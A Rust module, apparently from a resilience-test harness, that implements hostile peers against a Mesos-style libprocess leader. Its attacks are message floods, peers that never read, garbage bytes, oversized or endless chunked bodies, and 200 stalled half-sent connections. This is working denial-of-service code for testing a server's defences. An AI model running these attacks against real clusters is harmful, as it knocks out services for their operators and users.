//! Peers that want to take a leader down: they flood, never read, send garbage or more than anybody needs, or hold
//! connections for nothing. Each attack runs until it is told to stop and counts what it sent.

use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use crate::libprocess::request;

/// How long one read or write may take before the attack looks whether it should stop.
const BLINK: Duration = Duration::from_millis(200);

/// Bytes sent at a time.
const BATCH: usize = 256 << 10;

/// What a hostile peer does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Valid messages as fast as they go, answers read: pongs, registrations and updates of a follower.
    Flood,
    /// The same, and no answer is ever read, nor what the leader sends to the follower.
    Deaf,
    /// Bytes that mean nothing, on one connection after the other.
    Garbage,
    /// Messages with bodies far beyond what is allowed, announced and in chunks.
    Huge,
    /// Connections that stop in the middle of a message and stay.
    Stalled,
}

/// All of them, by the names that the command line knows.
pub const ATTACKS: &[(&str, Attack)] = &[
    ("flood", Attack::Flood),
    ("deaf", Attack::Deaf),
    ("garbage", Attack::Garbage),
    ("huge", Attack::Huge),
    ("stalled", Attack::Stalled),
];

/// Connections of one stalled peer.
const STALLED: usize = 200;

/// An attack under way; it ends when this is dropped.
#[derive(Debug)]
pub struct Attacker {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Attacker {
    /// Begins.
    pub fn start(attack: Attack, leader: SocketAddr) -> Attacker {
        let (stop, sent) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(AtomicU64::new(0)),
        );
        let scene = Scene {
            leader,
            stop: Arc::clone(&stop),
            sent: Arc::clone(&sent),
        };
        let thread = std::thread::spawn(move || {
            while !scene.stopped() {
                // A leader that hangs up on an attacker does well; the attacker comes again.
                let _ = scene.run(attack);
            }
        });
        Attacker {
            stop,
            sent,
            thread: Some(thread),
        }
    }

    /// Bytes sent so far.
    pub fn bytes_sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            thread.join().ok();
        }
    }
}

struct Scene {
    leader: SocketAddr,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
}

impl Scene {
    fn stopped(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }

    fn connect(&self) -> io::Result<TcpStream> {
        let stream = TcpStream::connect_timeout(&self.leader, Duration::from_secs(5));
        let stream = stream.inspect_err(|_| std::thread::yield_now())?;
        stream.set_read_timeout(Some(BLINK))?;
        stream.set_write_timeout(Some(BLINK))?;
        Ok(stream)
    }

    fn run(&self, attack: Attack) -> io::Result<()> {
        match attack {
            Attack::Flood => self.flood(true),
            Attack::Deaf => self.flood(false),
            Attack::Garbage => self.garbage(),
            Attack::Huge => self.huge(),
            Attack::Stalled => self.stalled(),
        }
    }

    /// Valid messages of a follower whose own address takes connections and never reads them.
    fn flood(&self, reads: bool) -> io::Result<()> {
        let silent = std::net::TcpListener::bind("127.0.0.1:0")?;
        let from = format!("slave(1)@{}", silent.local_addr()?);
        let stream = self.connect()?;
        let messages = valid_messages(&from, self.leader);
        let batch = messages
            .concat()
            .repeat(BATCH / messages.concat().len().max(1));
        if reads {
            let mut reader = stream.try_clone()?;
            std::thread::spawn(move || {
                let mut buffer = [0; 64 << 10];
                // Until the connection is closed; a time-out only means that there was nothing.
                while !matches!(reader.read(&mut buffer), Ok(0))
                    && reader.peer_addr().is_ok()
                    && reader.take_error().is_ok_and(|error| error.is_none())
                {}
            });
        }
        let result = self.send_for_ever(&stream, &batch);
        stream.shutdown(Shutdown::Both).ok();
        result
    }

    fn garbage(&self) -> io::Result<()> {
        let mut noise = vec![0_u8; 16 << 10];
        let mut state = 0x9E37_79B9_7F4A_7C15_u64;
        for byte in &mut noise {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1);
            *byte = (state >> 33) as u8;
        }
        let broken = b"POST /master/mesos.internal.RegisterSlaveMessage HTTP/1.1\r\nLibprocess-From: slave(1)@127.0.0.1:1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n";
        while !self.stopped() {
            for bytes in [&noise[..], &broken[..]] {
                let mut stream = self.connect()?;
                // Hung up on: that is what should happen.
                if stream.write_all(bytes).is_ok() {
                    self.count(bytes.len());
                }
            }
        }
        Ok(())
    }

    fn huge(&self) -> io::Result<()> {
        let head = "POST /master/mesos.internal.RegisterSlaveMessage HTTP/1.1\r\nLibprocess-From: slave(1)@127.0.0.1:1\r\n";
        let mut announced = self.connect()?;
        announced.write_all(format!("{head}Content-Length: 1099511627776\r\n\r\n").as_bytes())?;
        let chunked = self.connect()?;
        (&chunked).write_all(format!("{head}Transfer-Encoding: chunked\r\n\r\n").as_bytes())?;
        let chunk = [
            format!("{BATCH:x}\r\n").into_bytes(),
            vec![b'x'; BATCH],
            b"\r\n".to_vec(),
        ]
        .concat();
        self.send_for_ever(&chunked, &chunk)
    }

    fn stalled(&self) -> io::Result<()> {
        let message = request(
            "slave(1)@127.0.0.1:1",
            "master",
            self.leader,
            "mesos.internal.RegisterSlaveMessage",
            &[b'x'; 400],
        );
        let mut held = Vec::new();
        for number in 0..STALLED {
            let mut stream = self.connect()?;
            let part = &message[..1 + number * 3 % (message.len() - 1)];
            stream.write_all(part)?;
            self.count(part.len());
            held.push(stream);
        }
        while !self.stopped() {
            // One of them may be closed by now, which ends nothing.
            for stream in &mut held {
                if self.stopped() {
                    break;
                }
                let mut byte = [0; 1];
                stream.read_exact(&mut byte).ok();
            }
        }
        Ok(())
    }

    fn send_for_ever(&self, mut stream: &TcpStream, bytes: &[u8]) -> io::Result<()> {
        let mut at = 0;
        while !self.stopped() {
            match stream.write(&bytes[at..]) {
                Ok(0) => return Ok(()),
                Ok(written) => {
                    self.count(written);
                    at = (at + written) % bytes.len();
                }
                Err(error)
                    if matches!(
                        error.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) => {}
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }

    fn count(&self, bytes: usize) {
        self.sent.fetch_add(bytes as u64, Ordering::Relaxed);
    }
}

/// A pong, a registration and an update: what a real follower sends, as from `from`.
pub fn valid_messages(from: &str, leader: SocketAddr) -> Vec<Vec<u8>> {
    let id = |value: &str| field(1, value.as_bytes());
    // AgentInfo: hostname and port; then the version of the protocol.
    let info = [field(1, b"flooder"), vec![0x40, 0xb8, 0x27]].concat();
    let register = [field(1, &info), field(2, b"1.11.0")].concat();
    let status = [field(1, &id("task")), vec![0x10, 1]].concat();
    let update = [
        field(1, &id("framework")),
        field(3, &id("nobody")),
        field(4, &status),
        [vec![0x29], 1.0_f64.to_le_bytes().to_vec()].concat(),
        field(6, &[7; 16]),
    ];
    let update = field(1, &update.concat());
    [
        ("mesos.internal.PongSlaveMessage", Vec::new()),
        ("mesos.internal.RegisterSlaveMessage", register),
        ("mesos.internal.StatusUpdateMessage", update),
    ]
    .map(|(name, body)| request(from, "master", leader, name, &body))
    .to_vec()
}

/// A length-delimited protobuf field; short ones and low numbers only.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let length = u8::try_from(bytes.len())
        .ok()
        .filter(|length| *length < 128);
    let length = length.expect("a short field");
    [&[number << 3 | 2, length], bytes].concat()
}
